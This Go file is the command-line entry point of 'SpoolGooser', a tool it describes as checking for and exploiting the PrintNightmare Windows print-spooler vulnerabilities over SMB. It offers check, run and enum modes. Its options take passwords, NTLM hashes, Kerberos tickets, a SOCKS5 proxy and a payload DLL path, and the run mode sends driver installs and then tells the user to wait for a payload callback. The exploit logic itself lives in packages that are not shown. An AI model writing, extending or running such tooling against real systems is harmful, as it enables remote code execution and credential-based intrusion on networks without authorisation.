package main

import (
	"context"
	"fmt"
	"os"
	"os/signal"
	"strings"
	"time"

	"github.com/fatih/color"
	"github.com/mjwhitta/cli"

	"github.com/ineffectivecoder/SpoolGooser/pkg/debug"
	"github.com/ineffectivecoder/SpoolGooser/pkg/output"
	"github.com/ineffectivecoder/SpoolGooser/pkg/printnightmare"
	"github.com/ineffectivecoder/SpoolGooser/pkg/randtext"
	"github.com/ineffectivecoder/SpoolGooser/pkg/remote"
	"github.com/ineffectivecoder/SpoolGooser/pkg/smb"
	"github.com/ineffectivecoder/SpoolGooser/pkg/smb/types"
)

// Version info
const (
	Version = "0.1.0"
	Banner  = "SpoolGooser"
)

const gooseBanner = `
                                   ___
                               ,-""   ` + "`" + `.
                             ,'  _   e )` + "`" + `-._
                            /  ,' ` + "`" + `-._<.===-'
                           /  /
                          /  ;
              _.--.__    /   ;
 (` + "`" + `._    _.-""       "--'    |
 <_  ` + "`" + `-""                     \
  <` + "`" + `-                          :
   (__   <__.                  ;
     ` + "`" + `-.   '-.__.      _.'    /
        \      ` + "`" + `-.__,-'    _,'
         ` + "`" + `._    ,    /__,-'    HONK HONK!
            ""._\__,'< <____       SpoolGooser v%s
                 | |  ` + "`" + `---._` + "`" + `-.   PrintNightmare over MS-RPRN
                 | |        ` + "`" + `\ ` + "`" + `\
                 ; |___,.--""` + "`" + `` + "`" + `-'
                 \/--'
`

// Modes
const (
	modeCheck = "check"
	modeRun   = "run"
	modeEnum  = "enum"
)

// options holds parsed flags
type options struct {
	target   string
	username string
	password string
	hash     string
	domain   string
	kerberos bool
	ccache   string
	keytab   string
	dc       string
	port     int
	socks5   string
	dialect  string
	sign     bool
	dll      string
	delay    int
	force    bool
	timeout  int
	verbose  bool
}

var console *output.Console

func main() {
	var opts options

	// Configure CLI
	cli.Align = true
	cli.Banner = fmt.Sprintf("%s [OPTIONS] <check|run|enum>", os.Args[0])
	cli.Info("Check for and exploit PrintNightmare (CVE-2021-1675 / CVE-2021-34527) over \\PIPE\\spoolss")
	cli.Authors = []string{"SpoolGooser Team"}

	cli.Flag(&opts.target, "t", "target", "", "Target server IP/hostname")
	cli.Flag(&opts.username, "u", "user", "", "Username")
	cli.Flag(&opts.domain, "d", "domain", "", "Domain name / Kerberos realm")
	cli.Flag(&opts.password, "p", "password", "", "Password")
	cli.Flag(&opts.hash, "H", "hash", "", "NTLM hash (32 hex chars, or LM:NT)")
	cli.Flag(&opts.kerberos, "k", "kerberos", false, "Use Kerberos (password, ccache or keytab)")
	cli.Flag(&opts.ccache, "ccache", "", "Kerberos ccache file (default: $KRB5CCNAME)")
	cli.Flag(&opts.keytab, "keytab", "", "Kerberos keytab file")
	cli.Flag(&opts.dc, "dc", "", "KDC address, skips DNS discovery")
	cli.Flag(&opts.port, "port", remote.DefaultPort, "SMB port")
	cli.Flag(&opts.socks5, "socks5", "", "SOCKS5 proxy (e.g., 127.0.0.1:1080 or user:pass@host:port)")
	cli.Flag(&opts.dialect, "max-dialect", "", "Highest SMB dialect to offer (2.0.2, 2.1, 3.0, 3.0.2)")
	cli.Flag(&opts.sign, "sign", false, "Sign SMB messages even if the server does not require it")
	cli.Flag(&opts.dll, "dll", "", "Payload DLL path, local to the target or UNC (run only)")
	cli.Flag(&opts.delay, "delay", int(printnightmare.DefaultReconnectDelay/time.Second), "Seconds to wait before reconnecting")
	cli.Flag(&opts.force, "force", false, "Run even if the check does not report vulnerable")
	cli.Flag(&opts.timeout, "timeout", 30, "SMB timeout in seconds")
	cli.Flag(&opts.verbose, "v", "verbose", false, "Verbose output")

	cli.Parse()

	console = output.NewConsole(opts.verbose)
	debug.Verbose = opts.verbose

	printBanner()

	if cli.NArg() != 1 {
		console.Error("Expected exactly one mode: check, run or enum")
		cli.Usage(1)
	}
	mode := strings.ToLower(cli.Arg(0))
	switch mode {
	case modeCheck, modeRun, modeEnum:
	default:
		console.Error("Unknown mode %q", cli.Arg(0))
		cli.Usage(1)
	}

	if opts.target == "" {
		console.Error("Missing target (-t)")
		cli.Usage(1)
	}
	if mode == modeRun && strings.TrimSpace(opts.dll) == "" {
		console.Error("Mode run requires a DLL path (--dll)")
		cli.Usage(1)
	}

	smbConfig, err := clientConfig(&opts)
	if err != nil {
		console.Error("%v", err)
		os.Exit(1)
	}

	creds, cleanup, err := credentials(&opts)
	if err != nil {
		console.Error("%v", err)
		os.Exit(1)
	}
	defer cleanup()

	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt)
	defer stop()

	target := remote.New(remote.Config{
		Host:        opts.target,
		Port:        opts.port,
		Credentials: creds,
		SMB:         smbConfig,
	})

	config := printnightmare.DefaultConfig()
	config.DLLPath = opts.dll
	config.ReconnectDelay = time.Duration(opts.delay) * time.Second
	config.Force = opts.force

	session := printnightmare.NewSession(target, console, randtext.New(), config)
	defer session.Close()

	code := 0
	switch mode {
	case modeCheck:
		code = check(ctx, session, opts.target)
	case modeRun:
		code = run(ctx, session)
	case modeEnum:
		code = enum(ctx, session)
	}

	if code != 0 {
		session.Close()
		cleanup()
		os.Exit(code)
	}
}

func printBanner() {
	color.Cyan(gooseBanner, Version)
}

func check(ctx context.Context, session *printnightmare.Session, host string) int {
	report := session.Check(ctx)
	console.Verdict(host, report)
	if report.Code == printnightmare.CheckUnknown {
		return 1
	}
	return 0
}

func run(ctx context.Context, session *printnightmare.Session) int {
	if err := session.Exploit(ctx); err != nil {
		console.Failure(err)
		return 1
	}
	console.Good("All driver installs sent, check for the payload callback")
	return 0
}

func enum(ctx context.Context, session *printnightmare.Session) int {
	env, drivers, err := session.Drivers(ctx)
	if err != nil {
		console.Failure(err)
		return 1
	}

	console.Good("%d driver(s) installed for %s", len(drivers), env.Label)
	output.DriverTable(os.Stdout, drivers)
	console.Status("Driver directory: %s", env.DriverDirectory)
	return 0
}

// clientConfig builds the SMB settings from flags
func clientConfig(opts *options) (smb.ClientConfig, error) {
	config := smb.DefaultClientConfig()
	if opts.timeout > 0 {
		config.Timeout = time.Duration(opts.timeout) * time.Second
	}
	config.RequireSigning = opts.sign

	if opts.dialect != "" {
		d, ok := dialects[strings.TrimPrefix(opts.dialect, "smb")]
		if !ok {
			return config, fmt.Errorf("unknown SMB dialect %q", opts.dialect)
		}
		config.MaxDialect = d
	}

	if opts.socks5 != "" {
		// Normalize SOCKS5 URL
		if !strings.HasPrefix(opts.socks5, "socks5://") {
			opts.socks5 = "socks5://" + opts.socks5
		}
		config.Socks5URL = opts.socks5
		console.Status("Using SOCKS5 proxy: %s", opts.socks5)
	}
	return config, nil
}

var dialects = map[string]types.Dialect{
	"2.0.2": types.DialectSMB2_0_2,
	"2.1":   types.DialectSMB2_1,
	"3.0":   types.DialectSMB3_0,
	"3.0.2": types.DialectSMB3_0_2,
}
